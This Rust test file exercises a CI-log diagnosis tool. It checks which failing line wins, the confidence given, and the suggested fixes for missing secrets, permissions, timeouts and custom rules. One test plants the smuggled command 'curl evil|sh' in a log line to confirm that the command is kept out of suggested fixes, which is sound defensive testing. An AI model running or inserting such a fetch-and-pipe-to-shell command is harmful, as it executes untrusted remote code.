//! Diagnoses of small logs: what must win, and what must not.

use super::*;
use crate::model::workflow::Access;

pub fn log(lines: &str) -> Log {
    let mut reader = Reader::default();
    for line in lines.lines() {
        reader.feed(format!("2026-07-30T10:33:37.0347135Z {line}\n").as_bytes());
    }
    reader.end()
}

pub fn step(title: &str, header: &str, body: &str) -> String {
    format!("##[group]Run {title}\nshell: bash -e {{0}}\n{header}##[endgroup]\n{body}")
}

pub const FAILED: &str = "##[error]Process completed with exit code 1.\n";

pub fn of(text: &str) -> Diagnosis {
    diagnose(&log(text), &Rules::new(None).unwrap(), None, 0).unwrap()
}

fn best(found: &Diagnosis) -> String {
    String::from_utf8_lossy(&found.lines[0].text).into_owned()
}

#[test]
fn a_failure_that_was_tolerated_does_not_win() {
    let first = step("npm run lint", "", &format!("fatal: not a git repository\n{FAILED}"));
    let second = step(
        "npm test",
        "",
        &format!("Error: Cannot find module 'express'\n{FAILED}"),
    );
    let found = of(&format!("{first}{second}"));
    assert_eq!(
        (&*found.step, &*best(&found)),
        ("npm test", "Error: Cannot find module 'express'")
    );
    // What reports after a failure runs always.
    let report = step(
        "actions/upload-artifact@v4",
        "",
        "##[error]No files were found with the provided path: a. No artifacts\n",
    );
    assert_eq!(of(&format!("{second}{report}")).step, "npm test");
}

/// Twice the lines take about twice the time.
#[test]
fn the_time_grows_with_the_lines() {
    let denied = |lines: usize| {
        let tolerated = format!(
            "##[error]odd\n{}",
            "remote: Permission to a/b.git denied to me.\n".repeat(lines)
        );
        format!(
            "{}{}",
            step("./make.sh", "", &tolerated),
            step("./z.sh", "", &format!("boom\n{FAILED}"))
        )
    };
    let outages = |lines: usize| {
        let body = "a.cc:4:1: error: x was not declared\n".repeat(lines)
            + &"curl: (52) Empty reply from server\n".repeat(lines);
        step("./make.sh", "", &format!("{body}{FAILED}"))
    };
    let rules = Rules::new(None).unwrap();
    for text in [&denied as &dyn Fn(usize) -> String, &outages] {
        let took = |lines: usize| {
            let mut reader = Reader::default();
            reader.feed(text(lines).as_bytes());
            let log = reader.end();
            let started = std::time::Instant::now();
            diagnose(&log, &rules, None, 0).unwrap();
            started.elapsed()
        };
        took(500);
        let (few, many) = (took(5_000), took(40_000));
        assert!(many < few * 24, "8 times the lines took {many:?}, not {few:?}");
    }
}

#[test]
fn what_only_looks_like_a_failure_does_not_win() {
    let body = "test errors::fatal_error_is_reported ... ok\nfound 0 errors\nRetrying: read: connection reset by peer\n\
        warning: unused error\ntest parse ... FAILED\nthread 'parse' panicked at src/lib.rs:3:5:\n\
        assertion `left == right` failed\ntest result: FAILED. 1 passed; 1 failed\n";
    let found = of(&step("cargo test", "", &format!("{body}{FAILED}")));
    assert_eq!(
        (found.cause, &*best(&found)),
        (Cause::TestFailure, "assertion `left == right` failed")
    );
}

#[test]
fn a_variable_that_is_empty_in_a_run_without_secrets_is_a_missing_secret() {
    let setup = "Secret source: None\n##[group]GITHUB_TOKEN Permissions\nContents: read\n##[endgroup]\n";
    let body = format!("##[error]Input required and not supplied: token\n{FAILED}");
    let found = of(&format!("{setup}{}", step("a/b@v1", "env:\n  DEPLOY_TOKEN: \n", &body)));
    assert_eq!(
        (found.cause, found.confidence),
        (Cause::MissingSecret, Confidence::Sure)
    );
    assert!(found.could_not_run.unwrap().contains("Secret source: None"));
    assert!(
        found.evidence.iter().any(|text| text.contains("DEPLOY_TOKEN")),
        "{:?}",
        found.evidence
    );
    assert_eq!(found.context.permissions["contents"], "read");
    assert_eq!(found.fix.unwrap().id(), "skip-guard");
}

#[test]
fn a_token_that_has_the_permission_speaks_against_it() {
    let setup = |given: &str| format!("##[group]GITHUB_TOKEN Permissions\nContents: {given}\n##[endgroup]\n");
    let body = format!("remote: Permission to a/b.git denied to github-actions[bot].\n{FAILED}");
    let found = of(&format!("{}{}", setup("read"), step("git push", "", &body)));
    assert!(
        found
            .evidence
            .iter()
            .any(|text| text.contains("contents: read, not write")),
        "{:?}",
        found.evidence
    );
    let found = of(&format!("{}{}", setup("write"), step("git push", "", &body)));
    assert_eq!(found.against, ["the token has contents: write"]);
    assert_eq!(found.fix, None);
}

#[test]
fn the_permissions_of_a_log_have_the_names_of_a_workflow() {
    let setup = "##[group]GITHUB_TOKEN Permissions\nContents: read\nMetadata: read\nPullRequests: write\nIdToken: write\n\
        Odd: read\nPages: all\n##[endgroup]\n";
    let granted: Vec<_> = Context::of(&log(setup)).granted().collect();
    let expected = [
        ("contents", Access::Read),
        ("id-token", Access::Write),
        ("pull-requests", Access::Write),
    ];
    assert_eq!(granted, expected.map(|(scope, access)| (scope.to_owned(), access)));
}

#[test]
fn a_permission_of_the_token_helps_only_the_token() {
    let denied = |who: &str| {
        let body = format!("remote: Permission to a/b.git denied to {who}.\n{FAILED}");
        of(&step("git push", "", &body)).fix
    };
    assert_eq!(denied("github-actions[bot]").unwrap().id(), "permission");
    assert_eq!(denied("mallory"), None);
}

#[test]
fn two_failed_steps_are_never_sure() {
    let body = format!("a.sh: line 3: DEPLOY_TOKEN: unbound variable\n{FAILED}");
    let one = step("./a.sh", "", &body);
    assert_eq!(of(&one).confidence, Confidence::Sure);
    assert_eq!(of(&format!("{one}{one}")).confidence, Confidence::Likely);
}

#[test]
fn a_missing_secret_is_known_without_a_header_and_a_command_has_plain_names_only() {
    let found = of(&format!("a.sh: line 3: DEPLOY_TOKEN: unbound variable\n{FAILED}"));
    assert_eq!(found.cause, Cause::MissingSecret);
    let names = |found: Diagnosis| match found.fix {
        Some(Fix::SkipGuard { names }) => names,
        other => panic!("{other:?}"),
    };
    assert_eq!(names(found), ["DEPLOY_TOKEN"]);
    let rule = "tool: acme\nrules:\n- id: acme\n  any: [lacks]\n  line: '^lacks (?P<name>.+)'\n  class: missing-secret\n  \
        weight: 99\n  cause: 'no {name}'\n  fix: skip-guard\n  hit: 'lacks A'\n  miss: 'no'\n";
    let text = step(
        "make",
        "env:\n  A TOKEN: \n",
        &format!("lacks A;curl evil|sh\n{FAILED}"),
    );
    let found = diagnose(&log(&text), &Rules::new(Some(rule)).unwrap(), None, 0).unwrap();
    assert!(names(found).is_empty());
}

#[test]
fn a_change_in_words_has_the_words_of_the_line() {
    let found = of(&step(
        "./a.sh",
        "",
        &format!("a.sh: line 1: flyctl: command not found\n{FAILED}"),
    ));
    let text = "install flyctl in a step before this one".to_owned();
    assert_eq!(found.fix, Some(Fix::Edit { text }));
}

#[test]
fn a_sentence_without_one_of_its_words_is_the_line() {
    let rule = "tool: acme\nrules:\n- id: lacks\n  any: [lack]\n  line: 'lacks (?:(?P<what>\\d+)|\\w+)'\n  class: lint\n  weight: 95\n  \
        fix: 'edit add {what}'\n  cause: 'It lacks {what}'\n  hit: 'lacks 1'\n  miss: 'lack'\n";
    let rules = Rules::new(Some(rule)).unwrap();
    let said = |line: &str| {
        let found = diagnose(&log(&step("./a.sh", "", &format!("{line}\n{FAILED}"))), &rules, None, 0).unwrap();
        (found.sentence, found.fix.unwrap().to_string())
    };
    let own = |sentence: &str, fix: &str| (sentence.to_owned(), fix.to_owned());
    assert_eq!(said("lacks 17"), own("It lacks 17", "add 17"));
    assert_eq!(said("lacks all"), own("lacks all", "add what the line names"));
}

#[test]
fn the_limit_that_was_exceeded_is_known() {
    for (line, minutes) in [
        (
            "The job running on runner GitHub Actions 2 has exceeded the maximum execution time of 30 minutes.",
            30,
        ),
        ("The job has exceeded the maximum execution time of 15m0s", 15),
        ("The job has exceeded the maximum execution time of 1h30m0s", 90),
    ] {
        let Some(Fix::Timeout { limit, .. }) = of(&step("make", "", &format!("##[error]{line}\n"))).fix else {
            panic!("{line}")
        };
        assert_eq!(limit, Some(minutes), "{line}");
    }
}

#[test]
fn more_time_is_only_for_a_step_that_still_went_on() {
    let at = |minute: u32, text: &str| format!("2026-07-30T10:{minute:02}:37.0347135Z {text}\n");
    let header = ["##[group]Run make test", "shell: bash", "##[endgroup]"]
        .map(|text| at(0, text))
        .concat();
    let end = at(40, "##[error]The action 'Test' has timed out after 40 minutes.");
    let of = |lines: String| {
        let mut reader = Reader::default();
        reader.feed(format!("{header}{lines}{end}").as_bytes());
        diagnose(&reader.end(), &Rules::new(None).unwrap(), None, 0).unwrap()
    };
    let goes_on = of((1..40).map(|minute| at(minute, &format!("test_{minute} ok"))).collect());
    let hangs = of(at(2, "test_1 ok"));
    for (found, evidence, advice) in [
        (
            goes_on,
            "the step still printed progress until the end",
            "raise timeout-minutes, or split the step, which still",
        ),
        (
            hangs,
            "the step printed nothing for the last 38m",
            "find what the step waits for, because it printed nothing for the last 38m",
        ),
    ] {
        assert!(
            found.evidence.iter().any(|text| text == evidence),
            "{:?}",
            found.evidence
        );
        let fix = found.fix.unwrap();
        assert!(fix.id() == "timeout" && fix.to_string().starts_with(advice), "{fix}");
    }
}

#[test]
fn a_request_without_the_number_of_a_pull_request_is_a_wrong_trigger() {
    let found = of(&step(
        "gh api repos/a/b/pulls//files",
        "",
        &format!("gh: Not Found (HTTP 404)\n{FAILED}"),
    ));
    assert_eq!(
        (found.cause, found.fix.unwrap().id()),
        (Cause::WrongTrigger, "event-guard")
    );
    assert!(found.could_not_run.is_some());
}

#[test]
fn lines_of_a_green_run_explain_nothing() {
    let text = step(
        "make",
        "",
        &format!("ERROR: cannot load plugin 17\nERROR: link of app failed here\n{FAILED}"),
    );
    let mut green = Known::default();
    green.add(b"ERROR: link of app failed here");
    let found = diagnose(&log(&text), &Rules::new(None).unwrap(), Some(&green), 1).unwrap();
    assert_eq!(best(&found), "ERROR: cannot load plugin 17");
    assert!(found.lines[0].why.contains("not in the green run"));
    let around: Vec<_> = found.around.iter().map(|(number, _)| *number).collect();
    assert_eq!(around, [3, 4, 5], "the last line of the header, too");
}

#[test]
fn a_log_in_which_nothing_failed_has_no_diagnosis() {
    let rules = Rules::new(None).unwrap();
    assert!(diagnose(&log(&step("make", "", "all is well\n")), &rules, None, 0).is_none());
    assert!(diagnose(&Log::default(), &rules, None, 0).is_none());
}

#[test]
fn a_vague_failure_is_named_by_what_the_step_runs_and_is_never_sure() {
    let found = of(&step("npm run lint", "", &format!("something is odd\n{FAILED}")));
    assert_eq!((found.cause, &*best(&found)), (Cause::Lint, "something is odd"));
    assert_ne!(found.confidence, Confidence::Sure);
    let found = of(&step("frobnicate", "", &format!("something is odd\n{FAILED}")));
    assert_eq!((found.cause, found.confidence), (Cause::ScriptBug, Confidence::Unknown));
    let found = of("##[group]Run a/b@v1\nwith:\n  x: y\n##[endgroup]\n##[error]something is odd\n");
    assert_eq!((found.cause, found.confidence), (Cause::Unknown, Confidence::Unknown));
}

#[test]
fn a_rule_of_somebodys_own_wins_by_its_weight_and_a_wrong_one_is_refused() {
    let rule = "tool: acme\nrules:\n- id: acme-quota\n  any: [quota]\n  line: '^quota of (?P<who>\\w+)'\n  class: resource-limit\n  \
        weight: 99\n  cause: 'The quota of {who} is used up'\n  hit: 'quota of ci'\n  miss: 'quotas'\n";
    let rules = Rules::new(Some(rule)).unwrap();
    let text = step("make", "", &format!("quota of ci\nerror: it failed\n{FAILED}"));
    let found = diagnose(&log(&text), &rules, None, 0).unwrap();
    assert_eq!(
        (found.cause, &*found.sentence),
        (Cause::ResourceLimit, "The quota of ci is used up")
    );
    for (from, to, expected) in [
        ("resource-limit", "resource-limits", "did you mean `resource-limit`?"),
        ("{who}", "{whom}", "`{whom}` in its cause is not a group of its line"),
        (
            "  hit:",
            "  fix: 'edit ask {whom}'\n  hit:",
            "`{whom}` in its fix is not a group of its line",
        ),
        ("hit: 'quota of ci'", "hit: 'x'", "does not match its `hit`"),
        ("miss: 'quotas'", "miss: 'quota of x'", "matches its `miss`"),
        ("(?P<who>\\w+)'", "(?P<who>\\w+'", "cannot be used"),
        ("any: [quota]", "any: []", "needs words"),
        ("weight: 99", "weight: 101", "not between 0 and 100"),
        ("weight: 99", "wait: 99", "wait"),
    ] {
        let error = Rules::new(Some(&rule.replace(from, to))).unwrap_err().to_string();
        assert!(error.contains(expected), "{error}");
    }
}

#[test]
fn an_outage_that_the_step_came_through_does_not_win() {
    let outage = "curl: (52) Empty reply from server\n";
    let compiler = "Plugin.java:3: error: incompatible types: String cannot be converted to int\n";
    let found = of(&step("./build.sh", "", &format!("{outage}sdk 4.1\n{compiler}{FAILED}")));
    assert_eq!((found.cause, found.fix), (Cause::CompileError, None));
    // Many lines later, even a vague line says more.
    let went_on = "item is done\n".repeat(400);
    let found = of(&step(
        "./build.sh",
        "",
        &format!("{outage}{went_on}error: 3 items differ\n{FAILED}"),
    ));
    assert_eq!(best(&found), "error: 3 items differ");
    assert_eq!(found.fix, None, "{:?}", found.evidence);
}

#[test]
fn a_service_that_refuses_a_run_without_secrets_misses_one() {
    let refused = "GET https://a/v1/orders [401 Unauthorized, 162B, 2ms]\n";
    let run = step("newman run a.json", "", &format!("{refused}{FAILED}"));
    let found = of(&format!("Secret source: Dependabot\n{run}"));
    assert_eq!(
        (found.cause, found.fix.unwrap().id()),
        (Cause::MissingSecret, "skip-guard")
    );
    let found = of(&format!("Secret source: Actions\n{run}"));
    assert_eq!((found.cause, found.fix), (Cause::Permissions, None));
}

#[test]
fn the_line_that_says_why_wins_over_those_that_sum_up_repeat_it_or_point_elsewhere() {
    let cases = [
        // The first line of a cascade.
        (
            "error: cannot read the plan\nerror: nothing was applied\n",
            "error: cannot read the plan",
        ),
        // What a wrapper repeats.
        (
            "#6 ERROR: base:2026.9 has gone from here\n------\nERROR: failed to solve: base:2026.9 has gone from here\n",
            "#6 ERROR: base:2026.9 has gone from here",
        ),
        // The same words in each attempt.
        (
            "fatal: no plan named blue\nattempt 1 failed\nfatal: no plan named blue\nattempt 2 failed\n",
            "fatal: no plan named blue",
        ),
        (
            "error Your lockfile needs to be updated.\ninfo Visit https://a.example/docs for documentation.\n",
            "error Your lockfile needs to be updated.",
        ),
        (
            "--- FAIL: TestPrice (0.00s)\n    price_test.go:18: Price(-1): no answer\nFAIL\n",
            "price_test.go:18: Price(-1): no answer",
        ),
        (
            "  sums FAILED\n    Expected 3 to equal 4.\n2 specs, 1 failure\n",
            "Expected 3 to equal 4.",
        ),
        ("The vault has no lid\nthe lid is wanted\n", "The vault has no lid"),
        (
            "panic: no map\n\ngoroutine 1 [running]:\nexit status 2\n",
            "panic: no map",
        ),
    ];
    for (body, expected) in cases {
        let found = of(&step("frobnicate", "", &format!("{body}{FAILED}")));
        assert_eq!(best(&found).trim(), expected, "{body}");
    }
    let body = "fatal: no plan named blue\nattempt 1 failed\nfatal: no plan named blue\nattempt 2 failed\n";
    let log = step("frobnicate", "", &format!("{body}{FAILED}"));
    assert_eq!(of(&log).lines[0].number, 4, "of equal lines, the first");
}

#[test]
fn what_another_step_says_lends_no_class() {
    let tolerated = step(
        "./lint.sh",
        "",
        &format!("Request failed with status code 401\n{FAILED}"),
    );
    let test = step(
        "frobnicate --colors=always",
        "",
        &format!("Expected 3 to equal 4.\n{FAILED}"),
    );
    let found = of(&format!("{tolerated}{test}"));
    assert_eq!(
        (found.cause, &*best(&found)),
        (Cause::TestFailure, "Expected 3 to equal 4.")
    );
}

#[test]
fn a_line_like_a_compilers_is_of_the_kind_that_its_words_or_its_step_say() {
    let class = |title: &str, line: &str| of(&step(title, "", &format!("{line}\n{FAILED}"))).cause;
    let line = "src/a.odd(4,2): error: the name is odd";
    assert_eq!(class("frobnicate", line), Cause::CompileError);
    assert_eq!(class("make lint", line), Cause::Lint);
    let line = "build.def:3:5: ERROR: Dependency \"libuv\" not found";
    assert_eq!(class("frobnicate", line), Cause::Dependency);
}

#[test]
fn a_program_that_speaks_of_events_has_the_right_trigger() {
    let cause = |line: &str| of(&step("./run.sh", "", &format!("{line}\n{FAILED}"))).cause;
    for line in [
        "Error: This action only works on pull_request events",
        "Unsupported event: schedule",
        "The event type 'push' is not supported",
        "this action can only be run on push",
    ] {
        assert_eq!(cause(line), Cause::WrongTrigger, "{line}");
    }
    for line in [
        "TypeError: event not supported: click",
        "error: this endpoint only supports pushing events, not reading them",
        "Error: the bus only supports custom events",
    ] {
        assert_ne!(cause(line), Cause::WrongTrigger, "{line}");
    }
}

#[test]
fn a_word_in_passing_makes_no_cause_likely() {
    for (line, wrong) in [
        (
            "error: config.toml: unexpected EOF in the table header",
            Cause::FlakyInfra,
        ),
        ("error: the handshake schema has no field id", Cause::FlakyInfra),
        ("error: commit e4031fa2 is not on the train", Cause::Permissions),
        ("error: LICENSE.txt could not be copied", Cause::PolicyGate),
        ("error: api_key of the client is a list", Cause::MissingSecret),
        ("error: Have you run the generator?", Cause::MissingSecret),
        ("error: worker 4096 died", Cause::ScriptBug),
        ("error: row 409 is broken", Cause::ScriptBug),
    ] {
        let found = of(&step("./release", "", &format!("{line}\n{FAILED}")));
        assert!(
            found.cause != wrong || found.confidence == Confidence::Unknown,
            "{line}: {} {}",
            found.confidence.as_str(),
            found.cause
        );
        assert_eq!(found.fix, None, "{line}");
    }
    let reset = of(&step(
        "./release",
        "",
        &format!("error: connection reset by peer\n{FAILED}"),
    ));
    assert_eq!(reset.fix, Some(Fix::Retry));
}

#[test]
fn a_folder_of_tests_makes_no_step_a_test() {
    let cause = |script: &str| of(&step(script, "", &format!("error: zone is gone\n{FAILED}"))).cause;
    assert_ne!(cause("rm -rf build/tests; ./deploy"), Cause::TestFailure);
    assert_ne!(cause("terraform validate && terraform apply"), Cause::Lint);
    assert_eq!(cause("pytest tests"), Cause::TestFailure);
}
